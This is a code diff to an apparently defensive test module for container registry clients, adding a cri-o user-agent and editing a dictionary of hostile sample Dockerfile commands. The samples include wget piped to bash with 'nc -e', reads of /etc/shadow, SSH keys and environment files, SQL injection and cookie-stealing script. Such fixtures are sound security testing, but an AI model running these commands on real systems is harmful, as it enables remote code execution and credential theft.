@@ -34,6 +34,7 @@ _THAT_PING: Final = (
     "skopeo/1.19.0",
     "containers/5.36.1 (github.com/containers/image)",
     "cri-o/1.33.1 go/go1.24.3 os/linux arch/amd64",
+    "cri-o/1.27.8-2.rhaos4.14.gitbfac241.el9 go/go1.20.12 os/linux arch/amd64",
     "crane/v0.20.6 go-containerregistry/v0.20.6",
     _KANIKO,
     _COSIGN,
@@ -72,7 +73,8 @@ _TEXTS: Final = {
     "shell commands": "RUN /bin/sh -c apt-get update && apt-get install -y curl > /dev/null; rm -rf /var/lib/apt/* "
     "&& wget -qO- https://example.com/install.sh | bash -c 'base64 -d > /run.sh; chmod +x /run.sh; nc -e /run.sh'",
     "programs": "RUN python -c 'eval(input())' && perl -e 'system(1)' && node -e 'require(`child_process`).exec()'",
-    "system files": "COPY ../../../../etc/passwd /etc/shadow /root/.ssh/authorized_keys /proc/self/environ .env ./",
+    "system files": "RUN ls /var/log && cat ../../../../etc/passwd /etc/shadow /root/.ssh/authorized_keys "
+    "/proc/self/environ .env ./",
     "SQL": 'RUN psql -c "SELECT name FROM users WHERE id = 1 OR 1=1 UNION SELECT 2; DROP TABLE users; --\' --"',
     "HTML": "RUN echo '<html><script>alert(document.cookie)</script><iframe src=javascript:a><img src=x onerror=a>'",
     "PHP": "RUN echo '<?php phpinfo(); ?>' > index.php",
